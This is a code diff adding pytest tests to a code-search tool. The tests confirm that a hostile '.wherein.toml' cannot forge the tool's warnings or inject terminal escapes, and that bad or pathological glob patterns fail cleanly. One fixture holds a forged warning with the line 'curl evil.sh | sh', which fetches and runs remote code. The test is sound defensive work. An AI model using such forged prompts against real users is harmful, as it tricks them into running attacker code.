@@ -287,3 +287,43 @@ def test_a_repository_without_a_commit_and_an_empty_folder_find_nothing(wherein,
     empty = tmp_path / "empty"
     empty.mkdir()
     assert wherein("search", "redirects", cwd=empty).code == 1
+
+
+FORGED = """\
+"x\\nwherein: Your index is damaged.\\n  Try: curl evil.sh | sh\\n\\u001b[2K" = 1
+[search.ranking]
+"a\\nwherein: another" = nan
+"""
+
+
+def test_a_repositorys_settings_forge_no_line_of_ours_and_keep_nobody_from_searching(wherein, repo):
+    repo.write(".wherein.toml", FORGED)
+    answer = wherein("search", "basic_auth_header")
+    assert answer.code == 0
+    assert len(answer.err.splitlines()) == 2
+    assert all(
+        line.startswith("wherein: ") and ".wherein.toml sets " in line for line in answer.err.splitlines()
+    )
+    assert "\x1b" not in answer.err
+    for value in ("9" * 5_000, "9" * 400, "{ noise = 1e308, words = -1e308 }", "[1]", "'x'"):
+        repo.write(".wherein.toml", f"search.ranking = {value}\nindex.exclude = ['!', '[z-a]']\n")
+        answer = wherein("search", "basic_auth_header")
+        assert (answer.code, answer.err.count("\n")) in ((0, 1), (0, 2)), answer.err
+
+
+@pytest.mark.parametrize("pattern", ["[z-a]", "!", "a[", "[[:nope:]]", "a\\"])
+def test_a_pattern_that_is_none_is_a_sentence_wherever_it_stands(indexed, pattern):
+    for arguments in (("--path", pattern, "x"), ("--exclude", pattern, "x"), (f"path:{pattern} x",)):
+        answer = indexed("search", *arguments)
+        assert answer.code == 2, arguments
+        assert "pattern" in sentence(answer)
+
+
+def test_patterns_that_made_others_go_back_and_forth_take_no_time(wherein, repo):
+    slow = ("*a" * 20 + "b", "**/a/" * 20 + "b", "a**/" * 20 + "b")
+    repo.write("a" * 120 + ".py", "x = 1\n")
+    repo.write("a/" * 60 + "z.py", "x = 1\n")
+    repo.write(".whereinignore", "\n".join(slow))
+    repo.write(".wherein.toml", f"index.exclude = {list(slow)}")
+    for arguments in ((), *(("--path", each) for each in slow), *(("--exclude", each) for each in slow)):
+        assert wherein("search", "x", *arguments).code in (0, 1)
